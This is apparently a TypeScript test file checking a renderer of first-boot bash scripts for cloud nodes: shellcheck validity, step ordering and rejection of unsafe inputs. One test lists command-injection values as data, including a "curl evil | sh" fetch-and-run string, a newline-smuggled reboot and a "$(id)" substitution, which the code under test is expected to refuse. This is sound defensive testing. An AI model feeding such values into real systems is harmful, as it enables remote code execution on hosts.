import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  EFS_MOUNT_OPTIONS,
  NODE_SECRETS_CA_KEY,
  type NodeUserDataInput,
  renderNodeUserData,
} from "../../../../infra/sst/node-user-data.ts";

// The first-boot script of every node, rendered from AWS names only (no secret can be in
// it: its inputs are ids, and the env file is read from SSM on the node).

const input: NodeUserDataInput = {
  region: "eu-west-1",
  releaseBucket: "workcell-prod-releasesbucket-abc123",
  releaseKey: `agent-host/workcell-agent-host-${"a".repeat(64)}.tar.gz`,
  releaseSha256: "a".repeat(64),
  fileSystemId: "fs-0123abcd",
  envParameterName: "/workcell/prod/agent-host.env",
  secretsCaCertParameterName: "/workcell/prod/secrets-ca-cert.pem",
  secretsCaKeyParameterName: "/workcell/prod/secrets-ca-key.pem",
};

describe("node user data", () => {
  test("is valid bash that passes shellcheck", () => {
    const file = join(mkdtempSync(join(tmpdir(), "user-data-")), "user-data.sh");
    writeFileSync(file, renderNodeUserData(input));
    execFileSync("bash", ["-n", file]);
    execFileSync("shellcheck", ["--shell=bash", "--severity=warning", file]);
  });

  test("verifies the release's checksum before install.sh runs, then mounts, writes env, starts", () => {
    const script = renderNodeUserData(input);
    const order = [
      `mount "$data_root"`,
      "sha256sum --check --strict",
      "infra/agent-host/install.sh",
      "--with-decryption",
      'echo "NODE_ID=$instance_id"',
      "chmod 0600 /etc/workcell/agent-host.env.new",
      `install -d -m 0700 "$(dirname '${NODE_SECRETS_CA_KEY}')"`,
      `chmod 0600 '${NODE_SECRETS_CA_KEY}.new'`,
      "/opt/workcell/infra/ops/main.ts doctor",
      "systemctl enable --now workcell-agent-host",
    ].map((needle) => script.indexOf(needle));
    expect(order.every((at) => at > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(script).toContain(`nfs4 ${EFS_MOUNT_OPTIONS}`);
    expect(EFS_MOUNT_OPTIONS).toMatch(/(^|,)nfsvers=4\.1(,|$)/);
    expect(EFS_MOUNT_OPTIONS).toMatch(/(^|,)hard(,|$)/);
    expect(script).toContain("set -euo pipefail");
    expect(script).toContain("umask 077");
  });

  test("a value that could leave its quotes is refused, not escaped", () => {
    for (const [name, value] of [
      ["envParameterName", "/workcell/x'; curl evil | sh; '"],
      ["releaseBucket", "bucket name"],
      ["region", "eu-west-1\nreboot"],
      ["secretsCaKeyParameterName", "/workcell/x$(id)"],
    ] as const) {
      expect(() => renderNodeUserData({ ...input, [name]: value })).toThrow(
        `node user data: ${name} has unexpected characters`,
      );
    }
    expect(() => renderNodeUserData({ ...input, releaseSha256: "abc" })).toThrow(/64 lowercase/);
    expect(() => renderNodeUserData({ ...input, fileSystemId: "vol-1" })).toThrow(/fs-0123abcd/);
  });
});
